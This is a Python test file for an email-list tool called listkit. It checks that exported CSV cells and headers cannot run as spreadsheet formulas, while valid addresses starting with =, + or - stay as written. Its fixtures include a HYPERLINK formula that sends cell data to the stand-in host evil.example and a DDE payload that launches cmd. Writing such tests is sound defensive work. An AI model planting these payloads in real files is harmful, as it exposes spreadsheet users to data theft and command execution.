"""The formula guard (promise 4): no exported cell runs as a formula, valid addresses stay as they are."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import polars as pl
from conftest import SPREADSHEET_TRIGGERS, run_cli, runs_as_formula
from hypothesis import given, settings
from hypothesis import strategies as st

import listkit
from listkit.formula import EMAIL_COLUMNS, FORMULA_TRIGGERS, formula_like_addresses, formula_safe, unguard

EXFILTRATE = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'
DDE = "=cmd|' /C calc'!A0"
#: The valid addresses of the hostile run below that begin with a trigger: the only cells kept live.
FORMULA_LIKE = {"=1+1@example.com", "+tag@example.com", "-x@example.org", "=evil@example.net",
                "=1+1@gmial.com", "=1+1@gmail.com", "-new@example.com"}  # fmt: skip


def write_rows(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    return path


def read_text(path: Path) -> pl.DataFrame:
    return pl.read_csv(path, infer_schema=False)


def live_formulas(folder: Path) -> list[tuple[str, str, str]]:
    """(file, column, cell) of every cell and header of every CSV output that a spreadsheet would run."""
    found = []
    for path in sorted(folder.rglob("*.csv")):
        frame = read_text(path)
        headers = [name for name in frame.columns if name.startswith(SPREADSHEET_TRIGGERS)]
        found += [(path.name, "header", name) for name in headers]
        for name in frame.columns:
            found += [(path.name, name, cell) for cell in frame[name].drop_nulls() if runs_as_formula(cell)]
    return found


def hostile_run(tmp_path: Path, *extra: str | Path) -> Path:
    listing = write_rows(
        tmp_path / "list.csv",
        [
            ["email", "first_name", "source", "=x", "'=x"],
            [EXFILTRATE, "Ann", "web", "a", "b"],
            [DDE, "-2", "@SUM(A1)", "c", "d"],
            ["=1+1@example.com", "Bob", "+44 20", "=e", "'=f"],
            ["+tag@example.com", "Cy", "import", "", ""],
            ["-x@example.org", "Di", "import", "", ""],
            ["\tann@example.com", "Ed", "\rweb", "", ""],
            ["ann@example.com", "Fay", "web", "", ""],
            ["=1+1@gmial.com", "Gus", "web", "", ""],
        ],
    )
    events = write_rows(
        tmp_path / "events.csv",
        [
            ["email", "event", "timestamp"],
            [EXFILTRATE, "unsubscribe", "2026-01-01T00:00:00Z"],
            ["=evil@example.net", "complaint", "2026-01-01T00:00:00Z"],
            ["ann@example.com", "delivered", "2026-01-01T00:00:00Z"],
        ],
    )
    out = tmp_path / "out"
    args = ["run", "--subscribers", listing, "--events", events, "--out", out, "--no-report", *extra]
    assert run_cli(*args) == 0
    return out


def test_text_that_is_not_an_address_is_guarded_in_every_output_whichever_column(tmp_path):
    out = hostile_run(tmp_path)
    # The only cells left starting with a trigger are valid addresses, in the address columns.
    for file, column, cell in live_formulas(out):
        assert column in EMAIL_COLUMNS and cell in FORMULA_LIKE, (file, column, cell)
    suppression = read_text(out / "suppression.csv")
    assert suppression["email"].to_list() == ["=evil@example.net"], (
        "a valid address is never altered; the formulas (one unsubscribed) are no addresses: ledger only"
    )
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["counts"]["suppression_not_addresses"] == 2
    ledger = read_text(out / "ledger.csv")
    emails = ledger["email"].to_list()
    assert emails[:3] == [f"'{EXFILTRATE}", f"'{DDE}", "=1+1@example.com"]
    assert emails[5] == "'\tann@example.com", "white space around an address: not an address as written"
    assert ledger["suggestion"].to_list()[-1] == "=1+1@gmail.com"
    assert ledger["first_name"].to_list()[1] == "-2", "a number is data, not a formula"
    assert ledger["source"].to_list()[1] == "'@SUM(A1)"


def test_headers_that_differ_only_by_the_guard_stay_distinct(tmp_path):
    out = hostile_run(tmp_path)
    for path in [out / "ledger.csv", *(out / "segments").glob("*.csv")]:
        header = next(csv.reader(path.open(encoding="utf-8")))
        assert header[-2:] == ["'=x", "''=x"], path.name
    kept = pl.concat([read_text(p) for p in (out / "segments").glob("*.csv")])
    row = kept.filter(pl.col("email") == "=1+1@example.com").row(0, named=True)
    assert (row["'=x"], row["''=x"]) == ("'=e", "''=f"), "cells are guarded the same reversible way"


def test_formula_like_addresses_are_kept_with_a_warning_that_names_none(tmp_path, capsys):
    out = hostile_run(tmp_path)
    manifest = json.loads((out / "manifest.json").read_text())
    [warning] = [w for w in manifest["warnings"] if w["code"] == "formula_like_address"]
    # =1+1@example.com, +tag@, -x@ and =1+1@gmial.com (and its suggestion); =evil@ is only suppressed.
    assert warning["details"] == {"ledger_rows": 4, "suppression_rows": 1}
    assert "@" not in json.dumps(warning)
    err = capsys.readouterr().err
    assert "listkit: warning: valid addresses that begin with =, + or -" in err
    assert "example.com" not in err


def test_no_warning_when_no_address_looks_like_a_formula(tmp_path):
    rows = [["email", "note"], ["ann@example.com", "=1+1"], [EXFILTRATE, ""]]
    listing = write_rows(tmp_path / "list.csv", rows)
    out = tmp_path / "out"
    assert run_cli("run", "--subscribers", listing, "--out", out, "--no-report") == 0
    codes = [w["code"] for w in json.loads((out / "manifest.json").read_text())["warnings"]]
    assert "formula_like_address" not in codes


def test_a_previous_run_read_back_shows_no_change_for_guarded_cells(tmp_path):
    first = hostile_run(tmp_path)
    second = tmp_path / "second"
    args = ["run", "--subscribers", tmp_path / "list.csv", "--events", tmp_path / "events.csv"]
    assert run_cli(*args, "--out", second, "--no-report", "--previous", first) == 0
    changes = read_text(second / "changes.csv")
    assert changes.height == 0, changes
    assert live_formulas(second) == live_formulas(first)


def test_changes_csv_is_guarded_too(tmp_path):
    first = hostile_run(tmp_path)
    listing = write_rows(tmp_path / "new.csv", [["email"], ["=SUM(1)"], ["-new@example.com"]])
    second = tmp_path / "second"
    assert run_cli("run", "--subscribers", listing, "--out", second, "--no-report", "--previous", first) == 0
    changes = read_text(second / "changes.csv")
    assert {"'=sum(1)", "-new@example.com", f"'{EXFILTRATE.lower()}"} <= set(changes["email"])
    for file, column, cell in live_formulas(second):
        assert column in EMAIL_COLUMNS and cell in FORMULA_LIKE, (file, column, cell)


texts = st.text(alphabet=st.sampled_from([*FORMULA_TRIGGERS, "'", "a", "1", " ", "é"]), max_size=8)


@settings(max_examples=300, deadline=None)
@given(st.lists(texts, min_size=1, max_size=6, unique=True))
def test_the_guard_is_reversible_and_never_merges_two_names(names):
    frame = pl.DataFrame({name: [name] for name in names}).with_columns(pl.all().cast(pl.String))
    guarded = formula_safe(frame)
    assert len(set(guarded.columns)) == len(names)
    assert not any(name.startswith(FORMULA_TRIGGERS) for name in guarded.columns)
    cells = guarded.row(0)
    assert not any(runs_as_formula(cell) for cell in cells)
    assert unguard(guarded).row(0) == tuple(names)


def test_only_valid_addresses_as_written_count_as_formula_like():
    values = pl.Series(
        ["=1+1@example.com", "+tag@x.com", "-x@y.com", "@x.com", "=x@Example.COM", "=x@example.com.",
         " =a@b.com", "=HYPERLINK(1)", "ann@example.com", None, "=a b@c.com"]
    )  # fmt: skip
    assert formula_like_addresses(values).to_list() == [
        True, True, True, False, True, False, False, False, False, False, False
    ]  # fmt: skip


def test_a_valid_address_beginning_with_a_quote_reads_back_from_an_earlier_run_unchanged(tmp_path):
    # "'+ann@example.com" is a valid address as written: never guarded, so never unguarded either.
    subscribers = tmp_path / "subscribers.csv"
    subscribers.write_text("email\n'+ann@example.com\nbob@example.com\n")
    first = tmp_path / "first"
    listkit.export(listkit.run_files(subscribers), first, report=False)
    again = listkit.run_files(subscribers, previous=first)
    assert again.changes.is_empty()
